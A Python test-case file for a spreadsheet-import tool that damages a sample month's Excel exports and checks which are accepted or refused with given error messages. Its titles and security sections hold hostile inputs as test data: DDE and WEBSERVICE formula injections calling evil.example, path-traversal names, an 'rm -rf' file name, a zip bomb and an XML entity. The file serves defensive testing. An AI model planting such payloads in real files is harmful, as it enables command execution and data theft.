"""Months as people and broken exports send them: what is done to the sample month, and what the run has to say.

A case is published with the figures of the sample month, but for those it names, or it is refused with one line for
each of its words, which begins with them.
"""

from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
from builders import Formula
from hostile.spoiled import SAMPLE, Spoil, SpoiledMonth, archive_of, put
from openpyxl.comments import Comment

from tasks.domain.sources import SOURCES, Source

SOUND: dict[str, Any] = {
    "products": 210, "units": 1_059, "revenue": Decimal("25236.60"), "premium": 11, "ordinary": 199,
}  # fmt: skip
"""The sample month's figures, reckoned elsewhere."""


@dataclass(frozen=True)
class Case:
    """One month.

    Attributes:
        group: What kind of fault it has.
        name: The fault in a few words.
        spoil: Does it to the sample month.
        words: How the line of each error begins; none for a month that is published.
        figures: The published figures that differ from the sample month's.
        through_the_command: Whether it is run once more as a person types it.
    """

    group: str
    name: str
    spoil: Spoil
    words: tuple[str, ...] = ()
    figures: dict[str, Any] = field(default_factory=dict)
    through_the_command: bool = False


CASES: list[Case] = []


def published(group: str, name: str, spoil: Spoil, *, through_the_command: bool = False, **figures: Any) -> None:
    CASES.append(Case(group, name, spoil, (), figures, through_the_command))


def refused(group: str, name: str, spoil: Spoil, *words: str, through_the_command: bool = False) -> None:
    CASES.append(Case(group, name, spoil, words, {}, through_the_command))


def replaced(source: Source, content: bytes) -> Spoil:
    return lambda month: month.path(source).write_bytes(content)


def in_xml(source: Source, part: str, old: str, new: str) -> Spoil:
    return lambda month: month.replace_in_part(source, part, old.encode(), new.encode())


SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"

# --- files

_OLE = bytes.fromhex("D0CF11E0A1B11AE1")
_NO_WORKBOOK = {
    "empty": (b"", "an empty file"),
    "csv": (b"product_id;price\n1;5\n", "a text or CSV file"),
    "html": (b"\xef\xbb\xbf\n <!DOCTYPE html><table><tr><td>5</td></tr></table>", "a web page (HTML)"),
    "error page of a shop": (b'<html><head><title>502</title></head><body>"bad gateway"</body>', "a web page (HTML)"),
    "xml spreadsheet of 2003": (b'<?xml version="1.0"?><Workbook/>', "an XML file"),
    "pdf": (b"%PDF-1.7\n", "a PDF file"),
    "zeros": (bytes(5_000), "a file of an unknown kind"),
    "old xls": (_OLE + bytes(600) + "Workbook".encode("utf-16-le"), "an old .xls workbook"),
    "password": (_OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "a password-protected workbook"),
    "ods": (archive_of(**{"content.xml": "<x/>"}), "an OpenDocument file (such as .ods)"),
    "word": (archive_of(**{"word/document.xml": "<x/>"}), "a Word document"),
    "xlsb": (archive_of(**{"xl/workbook.bin": "x"}), "a binary workbook (.xlsb)"),
    "zip of something else": (archive_of(**{"readme.txt": "hello"}), "a zip archive without a workbook"),
}
for name, (content, likeness) in _NO_WORKBOOK.items():
    refused(
        "files", name, replaced("erp", content),
        f'erp.xlsx: "{likeness}" is not an .xlsx workbook. Export the workbook again',
        through_the_command=name in {"empty", "html"},
    )  # fmt: skip


def cut_at(source: Source, share: float) -> Spoil:
    def spoil(month: SpoiledMonth) -> None:
        content = month.path(source).read_bytes()
        month.path(source).write_bytes(content[: int(len(content) * share)])

    return spoil


for share in (0.01, 0.5, 0.99):
    refused(
        "files", f"upload that ended at {share:.0%}", cut_at("web", share),
        'web.xlsx: "end of the file" is damaged or incomplete. Export the workbook again',
        through_the_command=share == 0.5,
    )  # fmt: skip


def missing(month: SpoiledMonth) -> None:
    month.path("liaison").unlink()


def two_of_one(month: SpoiledMonth) -> None:
    (month.folder / "erp (1).xlsx").write_bytes(month.path("erp").read_bytes())


def folder_in_its_place(month: SpoiledMonth) -> None:
    month.path("web").unlink()
    month.path("web").mkdir()


def lock_file(month: SpoiledMonth) -> None:
    (month.folder / "~$erp.xlsx").write_bytes(b"\x05user")


refused("files", "one is missing", missing, "liaison workbook in ")
refused("files", "a folder in its place", folder_in_its_place, "web workbook in ")
refused("files", "two candidates", two_of_one, "erp workbook in ")
published("files", "the lock file of an open workbook", lock_file)


def given_as(**content_of: Source) -> Spoil:
    """Put the sample's own workbook of another source in the place of each named one."""

    def spoil(month: SpoiledMonth) -> None:
        for source, other in content_of.items():
            month.path(source).write_bytes((SAMPLE / f"{other}.xlsx").read_bytes())

    return spoil


_COLUMNS = {
    "erp": "product_id, price", "liaison": "product_id, id_web", "web": "sku, post_type, post_title, total_sales",
}  # fmt: skip


def of_another(source: Source, other: Source) -> str:
    return (
        f'{source}.xlsx [Sheet1]: "columns of {other}: {_COLUMNS[other]}" are those of another source. '
        "Put each source's own workbook in its place, then run again."
    )


def swap_words(**content_of: Source) -> tuple[str, ...]:
    return tuple(of_another(source, other) for source, other in content_of.items())


for content_of in (
    {"erp": "liaison", "liaison": "erp"},
    {"erp": "web", "web": "erp"},
    {"liaison": "web", "web": "liaison"},
    {"erp": "liaison", "liaison": "web", "web": "erp"},
):
    refused(
        "files", f"swapped: {' and '.join(content_of)}", given_as(**content_of), *swap_words(**content_of),
        through_the_command=len(content_of) == 3,
    )  # fmt: skip
refused(
    "files", "one workbook three times", given_as(liaison="erp", web="erp"),
    "erp.xlsx (erp) and liaison.xlsx (liaison) and web.xlsx (web) are one and the same file. "
    "Put each source's own workbook in its place",
)  # fmt: skip
refused(
    "files", "one workbook twice", given_as(web="erp"),
    "erp.xlsx (erp) and web.xlsx (web) are one and the same file.",
)  # fmt: skip


def without_second_half(source: Source) -> Spoil:
    def spoil(month: SpoiledMonth) -> None:
        rows = month.rows(source)
        del rows[len(rows) // 2 :]

    return spoil


def share_words(share: str, lacking: Source) -> str:
    return (
        f'the three workbooks: "{share} (limit 10.00%)" is above the limit. '
        f"Rows of the {lacking} workbook are probably missing"
    )


for lacking in ("erp", "liaison"):
    refused(
        "files", f"second half of {lacking} is missing", without_second_half(lacking),
        share_words("109 of 212 products of the shop without a product of the ERP, 51.42%", lacking),
        share_words("516 of 1,068 units sold of products without a product of the ERP, 48.31%", lacking),
    )  # fmt: skip
refused(
    "files", "second half of web is missing", without_second_half("web"),
    share_words("112 of 215 links that lead to no product of the shop, 52.09%", "web"),
    through_the_command=True,
)  # fmt: skip


def nothing_sold(month: SpoiledMonth) -> None:
    column = month.column("web", "total_sales")
    for row in month.rows("web")[1:]:
        row[column] = 0


refused(
    "files", "the shop sold nothing", nothing_sold,
    'the three workbooks: "0 units sold of 210 products" cannot be right: the shop counts everything it ever sold.',
    through_the_command=True,
)  # fmt: skip


def faults_of_two(month: SpoiledMonth) -> None:
    month.path("erp").write_bytes(b"")
    month.rows("web")[0][month.column("web", "sku")] = "reference"


refused(
    "files", "one is empty and another lacks a column", faults_of_two,
    'erp.xlsx: "an empty file" is not an .xlsx workbook.',
    'web.xlsx [Sheet1], sku: "found: reference, virtual, ',
    through_the_command=True,
)  # fmt: skip

# --- headers


def header(source: Source, column: str, title: str | None) -> Spoil:
    def spoil(month: SpoiledMonth) -> None:
        month.rows(source)[0][month.column(source, column)] = title

    return spoil


for name, title in {
    "capitals": "PRICE",
    "mixed case": "Price",
    "blanks around": "  price ",
    "no-break spaces around": "\u00a0price\u00a0",
    "end of a line": "price\n",
    "full width": "\uff50\uff52\uff49\uff43\uff45",
}.items():
    published("headers", name, header("erp", "price", title))
for name, title, odd in (
    ("accent", "pric\u00e9", ", with U+00E9"),
    ("Cyrillic letter", "\u0440rice", ", with U+0440"),
    ("plural", "prices", ""),
    ("another language", "prix", ""),
):
    refused(
        "headers", name, header("erp", "price", title),
        f'erp.xlsx [Sheet1], price: "found: product_id, onsale_web, {title}, stock_quantity, stock_status" is missing. '
        f'Rename "{title}" (C1{odd}) to "price", then run again.',
        through_the_command=name == "Cyrillic letter",
    )  # fmt: skip
refused(
    "headers", "invisible character inside", header("erp", "price", "pri\u200bce"),
    'erp.xlsx [Sheet1], price: "found: product_id, onsale_web, pri\ufffdce, stock_quantity, stock_status" is missing. '
    'Rename "pri\ufffdce" (C1, with U+200B) to "price", then run again.',
)  # fmt: skip
refused(
    "headers", "without a title", header("erp", "price", None),
    'erp.xlsx [Sheet1], price: "found: product_id, onsale_web, stock_quantity, stock_status" is missing. '
    "Give the column its agreed name, then run again.",
)  # fmt: skip
refused(
    "headers", "doubled", header("web", "virtual", "Total_Sales "),
    'web.xlsx [Sheet1] B1, total_sales: "Total_Sales" appears more than once in the header. Rename or remove one',
    'web.xlsx [Sheet1] F1, total_sales: "total_sales" appears more than once in the header. Rename or remove one',
)  # fmt: skip


def banner(*rows: list[object], source: Source = "erp") -> Spoil:
    def spoil(month: SpoiledMonth) -> None:
        month.rows(source)[:0] = [list(row) for row in rows]

    return spoil


published("headers", "below a banner", banner(["Export of May 2025"], [], ["price", None, "in EUR"]))
published("headers", "in row 50", banner(*([["banner"]] * 49)))
refused(
    "headers", "in row 51", banner(*([["banner"]] * 50)),
    'erp.xlsx [Sheet1], product_id: "found: banner" is missing.',
    'erp.xlsx [Sheet1], price: "found: banner" is missing.',
)  # fmt: skip


def merged_banner(month: SpoiledMonth) -> None:
    def merge(book: openpyxl.Workbook) -> None:
        sheet = book.active
        sheet.insert_rows(1, 2)
        sheet["A1"] = "Prices of May 2025"
        sheet.merge_cells("A1:E2")

    month.edit("erp", merge)


published("headers", "below a merged banner", merged_banner)


def header_again(source: Source) -> Spoil:
    def spoil(month: SpoiledMonth) -> None:
        rows = month.rows(source)
        for place in (100, 50):
            rows.insert(place, list(rows[0]))

    return spoil


for source in SOURCES:
    published("headers", f"repeated inside {source}", header_again(source))
refused(
    "headers", "nothing below it", lambda month: month.rows("web").__delitem__(slice(1, None)),
    "web.xlsx [Sheet1] has a header and no row below it. Export the workbook again",
)  # fmt: skip
refused(
    "headers", "two sheets with it",
    lambda month: month.options.update(liaison={"more_sheets": {"Copy": month.rows("liaison")}}),
    "liaison.xlsx [Sheet1]: ", "liaison.xlsx [Copy]: ",
)  # fmt: skip
published(
    "headers", "another sheet with it is hidden",
    lambda month: month.options.update(
        liaison={"more_sheets": {"Old": month.rows("liaison")[:100]}, "hidden": ["Old"]}
    ),
)  # fmt: skip
refused(
    "headers", "on a hidden sheet only",
    in_xml("erp", BOOK, '<sheet name="Sheet1"', '<sheet state="hidden" name="Sheet1"'),
    "erp.xlsx has no visible sheet. Show the sheet with the table, then run again.",
)  # fmt: skip


# --- cells: what is read rightly gives the sample month's figures

PRICE, UNITS = "erp.xlsx [Sheet1] C2, price", "web.xlsx [Sheet1] F144, total_sales"
_NUMBER, _CALCULATE = "is not a number. Correct the cell", "is a formula that was never calculated. Open the workbook"
_AMBIGUOUS = "may mean two things: its separator may be of thousands or of decimals. Type it as a number"
_ERROR, _TOO_SMALL = "is an error of the spreadsheet. Correct the cell", "is not above 0. Correct the cell"

for name, value in {
    "decimal comma": "13,20",
    "decimal point as text": "13.2",
    "euro behind": "13,20 \u20ac",
    "euro before": "\u20ac13.20",
    "no-break spaces": "\u00a013,20\u00a0\u20ac\u00a0",
    "plus": "+13.2",
    "leading zero": "013,2",
    "trace of a sum": 13.199999999999999,
    "formula": Formula("=6.6*2", 13.2),
    "formula giving text": Formula('="13,20"', "13,20"),
}.items():
    published("cells", f"price: {name}", put("erp", "price", value))
published("cells", "price: scientific notation", in_xml("erp", SHEET, "<v>13.2</v>", "<v>1.32E1</v>"))
published("cells", "price: seventeen digits", in_xml("erp", SHEET, "<v>13.2</v>", "<v>13.199999999999999</v>"))
for name, value, words in (
    *(
        (error, Formula("=1", error), f'"{error}" {_ERROR}')
        for error in ("#REF!", "#N/A", "#DIV/0!", "#VALUE!", "#NAME?", "#NULL!", "#NUM!")
    ),
    ("formula never calculated", Formula("=6.6*2"), _CALCULATE),
    ("true", True, f'"TRUE" {_NUMBER}'),
    ("date", date(2025, 5, 3), f'"2025-05-03 00:00:00" {_NUMBER}'),
    ("text", "on request", f'"on request" {_NUMBER}'),
    ("error as text", "#N/A", f'"#N/A" {_NUMBER}'),
    ("scientific notation as text", "1.32e1", f'"1.32e1" {_NUMBER}'),
    ("infinity", "inf", f'"inf" {_NUMBER}'),
    ("no number", "NaN", f'"NaN" {_NUMBER}'),
    ("thousands or decimals", "1,234", f'"1,234" {_AMBIGUOUS}'),
    ("two separators", "1.234,50", f'"1.234,50" {_NUMBER}'),
    ("wrong groups", "1 23,20", f'"1 23,20" {_NUMBER}'),
    ("apostrophe in thousands", "1'234", f'"1\'234" {_NUMBER}'),
    ("dollar", "$13.20", f'"$13.20" {_NUMBER}'),
    ("name of a currency", "13.20 EUR", f'"13.20 EUR" {_NUMBER}'),
    ("percent", "13%", f'"13%" {_NUMBER}'),
    ("minus sign of print", "\u221213,20", f'"\u221213,20" {_NUMBER}'),
    ("digits of another script", "\u0661\u0663", f'"\u0661\u0663" {_NUMBER}'),
    ("full-width digits", "\uff11\uff13", f'"\uff11\uff13" {_NUMBER}'),
    ("below zero in text", "-12,50", f'"-12,50" {_TOO_SMALL}'),
    ("zero", 0, f'"0" {_TOO_SMALL}'),
    ("less than half a cent", 0.004, f'"0.004" {_TOO_SMALL}'),
    ("too large", 1e13, '"10000000000000" is too large for a spreadsheet. Correct the cell'),
    ("long text", "x" * 32_767, f'"{"x" * 39}\u2026" {_NUMBER}'),
    ("lines", "13\n20", f'"13 20" {_NUMBER}'),
    ("what a terminal would act upon", "\x1b[2J13", f'"\ufffd[2J13" {_NUMBER}'),
):
    separator = " " if words is _CALCULATE else ": "
    refused(
        "cells", f"price: {name}", put("erp", "price", value), f"{PRICE}{separator}{words}",
        through_the_command=name in {"#REF!", "thousands or decimals"},
    )  # fmt: skip
for name, value, shown in (
    ("empty", None, ""),
    ("spaces", "   ", ': ""'),
    ("no-break space", "\u00a0", ': ""'),
    ("invisible character", "\u200b", ': "\ufffd"'),
):
    refused("cells", f"price: {name}", put("erp", "price", value), f"{PRICE}{shown} is empty. Fill the cell")
for name, stored in {"infinity": "INF", "beyond every double": "1E400"}.items():
    refused(
        "cells", f"price: {name} as a number", in_xml("erp", SHEET, "<v>13.2</v>", f"<v>{stored}</v>"),
        f'{PRICE}: "inf" {_NUMBER}',
    )  # fmt: skip

for name, value in {
    "text": "14", "decimal comma": "14,00", "decimal point": "14.0", "plus": "+14", "blanks": "\u00a014 ",
    "formula": Formula("=7*2", 14),
}.items():  # fmt: skip
    published("cells", f"units: {name}", put("web", "total_sales", value))
for name, value in {"blank": "1 014", "no-break space": "1\u00a0014", "narrow no-break space": "1\u202f014,0"}.items():
    published(
        "cells", f"units: thousands by a {name}", put("web", "total_sales", value),
        units=2_059, revenue=Decimal("38436.60"),
    )  # fmt: skip
for name, value, words in (
    ("half a bottle", 1.5, ': "1.5" is not a whole number. Correct the cell'),
    ("half a bottle in text", "1,5", ': "1,5" is not a whole number. Correct the cell'),
    ("returned", -3, ': "-3" is below 0. Correct the cell'),
    ("empty", None, " is empty. Fill the cell"),
    ("false", False, f': "FALSE" {_NUMBER}'),
    ("date", datetime(2025, 5, 3, 12), f': "2025-05-03 12:00:00" {_NUMBER}'),  # noqa: DTZ001 - a workbook has no zone
    ("error", Formula("=1", "#N/A"), f': "#N/A" {_ERROR}'),
    ("formula never calculated", Formula("=7*2"), f" {_CALCULATE}"),
    ("unit of measure", "14 btl", f': "14 btl" {_NUMBER}'),
    ("money", "\u20ac14", f': "\u20ac14" {_NUMBER}'),
    ("thousands or decimals", "1.014", f': "1.014" {_AMBIGUOUS}'),
    ("too large", 1e15, ': "1000000000000000" is too large for a spreadsheet. Correct the cell'),
):
    refused("cells", f"units: {name}", put("web", "total_sales", value), f"{UNITS}{words}")


def calendar_of_1904(month: SpoiledMonth) -> None:
    month.replace_in_part("web", BOOK, b"<workbookPr ", b'<workbookPr date1904="1" ')


def price_in_1904(month: SpoiledMonth) -> None:
    def date_price(book: openpyxl.Workbook) -> None:
        book.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
        book.active["C2"] = date(2025, 5, 3)

    month.edit("erp", date_price)


published("cells", "dates of 1904 beside the figures", calendar_of_1904)
refused("cells", "price: date of 1904", price_in_1904, f'{PRICE}: "2025-05-03 00:00:00" {_NUMBER}')


def hidden(book: openpyxl.Workbook) -> None:
    book.active.column_dimensions["C"].hidden = True
    book.active.row_dimensions[2].hidden = True


def annotated(book: openpyxl.Workbook) -> None:
    book.active["C2"].comment = Comment("checked", "buyer")
    book.active["C2"].hyperlink = "https://cave.example/3911"
    book.active.auto_filter.ref = "A1:E241"
    book.active.freeze_panes = "A2"


published("cells", "hidden column and row", lambda month: month.edit("erp", hidden))
published("cells", "comment, link and filter", lambda month: month.edit("erp", annotated))

TITLES = {
    "32,767 characters": "M" * 32_767,
    "32,767 units of emoji": "\U0001f377" * 16_383 + "!",
    "control characters": "Mas\x01 La\x0bClape\x1f",
    "emoji": "Mas \U0001f377\U0001f469\u200d\U0001f33e Clape",
    "right-to-left text": "\u202e\u05d9\u05d9\u05df \u0646\u0628\u064a\u0630 Mas\u202c",
    "combining marks": "Z\u0351\u036b\u0343a\u0328\u0334lgo",
    "lines and tabs": "Mas\r\n\tLa Clape\r",
    "formula": "=1+1",
    "formula behind a blank": " =1+1",
    "dde": "=cmd|'/c calc'!A0",
    "dde behind a plus": "+cmd|'/c calc'!A0",
    "web service": '=WEBSERVICE("http://evil.example/?"&A1)',
    "hyperlink formula": '=HYPERLINK("http://evil.example","Mas")',
    "at sign": "@SUM(A1:A9)",
    "minus": "-2+3",
    "web address": "https://evil.example/?q=1",
    "mail address": "mailto:evil@evil.example",
    "internal link": "internal:Summary!A1",
    "external file": "external:c:\\evil.xlsx",
    "markup": "<r><t>Mas</t></r> 2012",
    "html": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entity": "&#61;1+1",
    "quotation marks": 'Mas "La", ; \' Clape',
    "escape of a control character": "_x0007_ Mas",
}
for name, title in TITLES.items():
    published("titles", name, put("web", "post_title", title), through_the_command=name in {"dde", "32,767 characters"})
published("titles", "none", put("web", "post_title", None))

# --- keys


def all_keys(source: Source, column: str, change: Callable[[object], object]) -> Spoil:
    def spoil(month: SpoiledMonth) -> None:
        place = month.column(source, column)
        for row in month.rows(source)[1:]:
            row[place] = None if row[place] is None else change(row[place])

    return spoil


published("keys", "all of them text", all_keys("erp", "product_id", str))
published("keys", "all of them text of floats", all_keys("liaison", "product_id", lambda key: f"{key}.0"))
published("keys", "blanks around", all_keys("web", "sku", lambda key: f"\u00a0{key}\u200b "))
published("keys", "capitals", all_keys("web", "sku", lambda key: str(key).upper()))
for name, value, shown in (
    ("blank inside", "39 11", "39 11"),
    ("true", True, "TRUE"),
    ("date", date(2025, 5, 3), "2025-05-03 00:00:00"),
    ("error", Formula("=1", "#REF!"), "#REF!"),
):
    refused(
        "keys", name, put("erp", "product_id", value),
        f'erp.xlsx [Sheet1] A2, product_id: "{shown}" is not a key. Type the key as a number or plain text',
    )  # fmt: skip
refused(
    "keys", "sku with a blank inside and sales", put("web", "sku", "154 23"),
    'web.xlsx [Sheet1] A144, sku: "154 23" is not a key. Type the key as a number or plain text',
)  # fmt: skip
published("keys", "another number", put("web", "sku", "015423"), products=209, units=1_045, ordinary=198,
          revenue=Decimal("25051.80"))  # fmt: skip


def again(source: Source, **other: object) -> Spoil:
    """The product's row a second time, below the others, with other values."""

    def spoil(month: SpoiledMonth) -> None:
        rows = month.rows(source)
        row = list(month.row(source))
        for column, value in other.items():
            row[month.column(source, column)] = value
        rows.append(row)

    return spoil


published("keys", "row repeated", again("erp"))
published("keys", "link repeated in other letters", again("liaison", product_id="\u00a03911.0"))
published("keys", "row repeated with another stock", again("erp", stock_quantity=7))
refused(
    "keys", "two prices", again("erp", price=13.3),
    'erp.xlsx [Sheet1] C2, price of product 3911: "13.2" contradicts C242, "13.3". Keep the right row',
    'erp.xlsx [Sheet1] C242, price of product 3911: "13.3" contradicts C2, "13.2". Keep the right row',
    through_the_command=True,
)  # fmt: skip
refused(
    "keys", "two counts", again("web", total_sales=15),
    'web.xlsx [Sheet1] F144, total_sales of sku 15423: "14" contradicts F448, "15".',
    'web.xlsx [Sheet1] F448, total_sales of sku 15423: "15" contradicts F144, "14".',
)  # fmt: skip
refused(
    "keys", "one sku for two products", again("liaison", product_id=3916),
    *(
        f'liaison.xlsx [Sheet1] B{row}, id_web of product {product_id}: "{sku}" {rule}'
        for row, product_id, sku, rule in (
            (2, 3911, 15423, 'is also linked from A242, "3916"'), (242, 3916, 15423, 'is also linked from A2, "3911"'),
            (4, 3916, 15017, 'is not the only live link of the product: there is B242, "15423"'),
            (242, 3916, 15423, 'is not the only live link of the product: there is B4, "15017"'),
        )
    ),
)  # fmt: skip
refused(
    "keys", "sales of a variation", put("web", "post_type", "product_variation"),
    'web.xlsx [Sheet1] Z144, post_type: "product_variation" is another type of post and has sales.',
)  # fmt: skip
refused(
    "keys", "sales without a type", put("web", "post_type", None),
    "web.xlsx [Sheet1] Z144, post_type is empty although the row has a sku or sales.",
)  # fmt: skip

# --- statistics


def all_prices(price: object) -> Spoil:
    def spoil(month: SpoiledMonth) -> None:
        for row in month.rows("erp")[1:]:
            row[2] = price

    return spoil


def one_product(month: SpoiledMonth) -> None:
    for source in SOURCES:
        month.sheets[source] = [month.rows(source)[0], month.row(source)]


published("statistics", "all prices equal", all_prices(10), revenue=Decimal("10590.00"), premium=0, ordinary=210)
published(
    "statistics", "all prices equal to the cent", all_prices(10.004),
    revenue=Decimal("10590.00"), premium=0, ordinary=210,
)  # fmt: skip
published(
    "statistics", "one product", one_product,
    products=1, units=14, revenue=Decimal("184.80"), premium=0, ordinary=1,
)  # fmt: skip
published(
    "statistics", "a price beyond all others", put("erp", "price", 99_999_999.99),
    revenue=Decimal("1400025051.66"), premium=1, ordinary=209, through_the_command=True,
)  # fmt: skip
published("statistics", "the least price", put("erp", "price", 0.005), revenue=Decimal("25051.94"))
refused(
    "statistics", "more money than a spreadsheet holds", put("erp", "price", 999_999_999_999),
    'the three workbooks: "14,000,000,025,037.80 EUR" is more than a spreadsheet can hold. Check prices and sales.',
)  # fmt: skip


# --- sizes


def spread(count: int, value: object) -> Spoil:
    """The same value in the first prices."""

    def spoil(month: SpoiledMonth) -> None:
        for row in month.rows("erp")[1 : count + 1]:
            row[2] = value

    return spoil


def many_posts(month: SpoiledMonth) -> None:
    rows = month.rows("web")
    post = [None] * len(rows[0])
    post[month.column("web", "post_type")] = "attachment"
    rows += [post] * 3_000


def many_blank_rows(month: SpoiledMonth) -> None:
    rows = month.rows("erp")
    rows[100:100] = [[None, " "] for _ in range(3_000)]


def many_columns(month: SpoiledMonth) -> None:
    rows = month.rows("liaison")
    rows[0] += [f"note {number}" for number in range(1_000)]


def long_names(month: SpoiledMonth) -> None:
    month.sheets["erp"] = month.rows("erp")
    month.options["erp"] = {"sheet": "Prices of all our wines, 2025-05"[:31]}
    month.put("web", "sku", "k" * 5_000)
    month.put("liaison", "id_web", "K" * 5_000)


published("sizes", "thousands of pictures", many_posts)
published("sizes", "thousands of blank rows", many_blank_rows)
published("sizes", "thousands of columns", many_columns)
published("sizes", "long keys and the longest name of a sheet", long_names)

# --- security


def part_outside(month: SpoiledMonth) -> None:
    month.replace_parts("erp", month.parts("erp") | {"../../../outside.txt": b"x", "/outside.txt": b"x"})


def macros(month: SpoiledMonth) -> None:
    month.replace_parts("erp", month.parts("erp") | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def external_link(month: SpoiledMonth) -> None:
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    month.replace_parts("erp", month.parts("erp") | {"xl/externalLinks/externalLink1.xml": link.encode()})


def sheet_name(name: str) -> Spoil:
    def spoil(month: SpoiledMonth) -> None:
        month.replace_in_part("erp", BOOK, b'name="Sheet1"', f'name="{name}"'.encode())

    return spoil


def renamed(source: Source, name: str) -> Spoil:
    return lambda month: month.path(source).rename(month.folder / name)


published("security", "parts that lead outside", part_outside, through_the_command=True)
published("security", "macros", macros)
published("security", "a link to another program", external_link)
for name in ("../../outside", "..\\..\\outside", "/outside", "=1+1", "C:\\outside"):
    published("security", f"sheet named {name}", sheet_name(name))
for name in ("..erp.xlsx", "erp ..\\outside.xlsx", "=erp+1.xlsx", "erp\n2.xlsx", "erp;rm -rf x.xlsx", "\u202eerp.xlsx"):
    if not name.startswith("."):
        published("security", f"file named {name!r}", renamed("erp", name))
refused(
    "security", "a fault in a file whose name has two lines",
    lambda month: (
        replaced("erp", b"x")(month),
        month.path("erp").rename(month.folder / "erp\nRefused: nothing.xlsx"),
    ),
    'erp Refused: nothing.xlsx: "a text or CSV file" is not an .xlsx workbook.',
)  # fmt: skip
refused(
    "security", "a long text where a truth belongs",
    in_xml("erp", SHEET, "><v>13.2</v>", f' t="b"><v>{"secret " * 4_000}</v>'),
    "erp.xlsx [Sheet1] C2: ",
)  # fmt: skip
refused(
    "security", "the name of a sheet in two lines", lambda month: (
        sheet_name("Sheet1&#10;Refused")(month),
        in_xml("erp", SHEET, "<v>13.2</v>", "<v>-1</v>")(month),
    ),
    f'erp.xlsx [Sheet1 Refused] C2, price: "-1" {_TOO_SMALL}',
)  # fmt: skip


def stray_cell(address: str) -> Spoil:
    row = address.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    stray = f'</row><row r="{row}"><c r="{address}"><v>1</v></c></row></sheetData>'
    return in_xml("erp", SHEET, "</row></sheetData>", stray)


def bomb(month: SpoiledMonth) -> None:
    month.replace_parts("erp", month.parts("erp") | {"xl/media/image1.png": bytes(300_000_000)})


_DELETE = "is larger than a workbook that can be read. Delete everything outside the table"
refused(
    "security", "a stray cell in the last corner", stray_cell("XFD1048576"),
    f'erp.xlsx [Sheet1] XFD1048576: "1,205 cells down to XFD1048576" {_DELETE}',
    through_the_command=True,
)  # fmt: skip
published("security", "a stray cell a little way off", stray_cell("ALL300"))
refused(
    "security", "a part of 300 MB in 300 kB", bomb,
    f'erp.xlsx: "291,590 to 300,000,000 bytes" {_DELETE}',
    through_the_command=True,
)  # fmt: skip
refused(
    "security", "entities of its own", in_xml("erp", SHEET, "<worksheet ", '<!DOCTYPE x [<!ENTITY a "9">]><worksheet '),
    'erp.xlsx [Sheet1]: "DOCTYPE in xl/worksheets/sheet1.xml" is damaged or incomplete. Export the workbook again',
)  # fmt: skip
